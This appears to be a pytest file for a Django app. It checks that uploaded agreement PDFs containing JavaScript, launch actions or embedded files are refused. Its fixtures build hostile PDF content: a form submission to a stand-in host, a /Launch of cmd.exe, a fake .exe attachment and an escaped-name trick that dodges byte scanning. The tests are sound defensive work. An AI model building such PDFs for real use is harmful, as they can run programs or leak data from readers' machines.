"""Agreement PDFs with scripts, launch actions or embedded files are refused (Dutch message),
in the workspace and in the admin; a plain PDF still goes through. Each PDF is made here
with pypdf, the way a real one carries the content."""

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from experiments.models import Agreement
from tests.experiments.conftest import stored_files
from tests.experiments.test_agreements import agreement_post
from tests.factories import CoalitionPartnerFactory

pytestmark = pytest.mark.django_db

SCRIPT_REFUSED = "Deze pdf bevat JavaScript of een actie die een programma start"
EMBEDDED_REFUSED = "Deze pdf bevat ingesloten bestanden"


def action(kind, **entries):
    return DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Action"),
            NameObject("/S"): NameObject(kind),
            **{NameObject(f"/{k}"): TextStringObject(v) for k, v in entries.items()},
        }
    )


def document_javascript(writer):
    writer.add_open_action(JavaScript("app.alert('hallo');"))


def open_action_javascript(writer):
    writer._root_object[NameObject("/OpenAction")] = action("/JavaScript", JS="app.alert(1);")


def page_open_javascript(writer):
    writer.pages[0][NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): action("/JavaScript", JS="this.submitForm('https://x.example');")}
    )


def document_additional_action(writer):
    writer._root_object[NameObject("/AA")] = DictionaryObject(
        {NameObject("/WC"): action("/JavaScript", JS="app.alert(2);")}
    )


def launch_action(writer):
    writer._root_object[NameObject("/OpenAction")] = action("/Launch", F="cmd.exe")


def embedded_file(writer):
    writer.add_attachment("factuur.exe", b"MZ\x90\x00 not really a program")


def make_pdf(change=None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if change is not None:
        change(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def upload(content):
    return SimpleUploadedFile("overeenkomst.pdf", content, content_type="application/pdf")


CASES = [
    (document_javascript, SCRIPT_REFUSED),
    (open_action_javascript, SCRIPT_REFUSED),
    (page_open_javascript, SCRIPT_REFUSED),
    (document_additional_action, SCRIPT_REFUSED),
    (launch_action, SCRIPT_REFUSED),
    (embedded_file, EMBEDDED_REFUSED),
]


@pytest.mark.parametrize("change, message", CASES, ids=[c.__name__ for c, _ in CASES])
def test_editor_cannot_attach_a_pdf_with_active_content(
    client, editor, coalition, private_media, change, message
):
    partner = CoalitionPartnerFactory(coalition=coalition)
    client.force_login(editor)
    response = client.post(
        reverse("experiments:agreement_create", args=[coalition.slug]),
        agreement_post(partner, upload(make_pdf(change))),
    )
    assert response.status_code == 200
    (error,) = response.context["form"].errors["pdf"]
    assert error.startswith(message), error
    assert not Agreement.objects.exists()
    assert stored_files(private_media) == []


def test_a_script_behind_an_escaped_name_is_found_too(client, editor, coalition, private_media):
    """`/J#61vaScript` is `/JavaScript` to a PDF reader; a byte search would miss it."""
    content = make_pdf().replace(
        b"/Type /Catalog",
        b"/Type /Catalog /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>",
    )
    assert b"/JavaScript" not in content and b"/JS" not in content
    partner = CoalitionPartnerFactory(coalition=coalition)
    client.force_login(editor)
    response = client.post(
        reverse("experiments:agreement_create", args=[coalition.slug]),
        agreement_post(partner, upload(content)),
    )
    assert response.context["form"].errors["pdf"][0].startswith(SCRIPT_REFUSED)
    assert not Agreement.objects.exists()


def test_a_plain_pdf_with_a_link_is_still_accepted(client, editor, coalition, private_media):
    def web_link(writer):
        from pypdf.annotations import Link

        writer.add_annotation(0, Link(rect=(50, 50, 200, 80), url="https://www.pharos.nl"))

    partner = CoalitionPartnerFactory(coalition=coalition)
    client.force_login(editor)
    response = client.post(
        reverse("experiments:agreement_create", args=[coalition.slug]),
        agreement_post(partner, upload(make_pdf(web_link))),
    )
    assert response.status_code == 302
    assert Agreement.objects.get().pdf


def test_the_admin_refuses_a_pdf_with_javascript_too(client, superuser, coalition, private_media):
    client.force_login(superuser)
    response = client.post(
        reverse("admin:experiments_agreement_add"),
        {
            "coalition": coalition.pk,
            "kind": "convenant",
            "title": "Convenant",
            "signed_on": "2021-01-15",
            "place": "Delft",
            "pdf": upload(make_pdf(open_action_javascript)),
            "signatories-TOTAL_FORMS": "0",
            "signatories-INITIAL_FORMS": "0",
        },
    )
    assert response.status_code == 200
    assert SCRIPT_REFUSED in response.content.decode()
    assert not Agreement.objects.exists()
    assert stored_files(private_media) == []
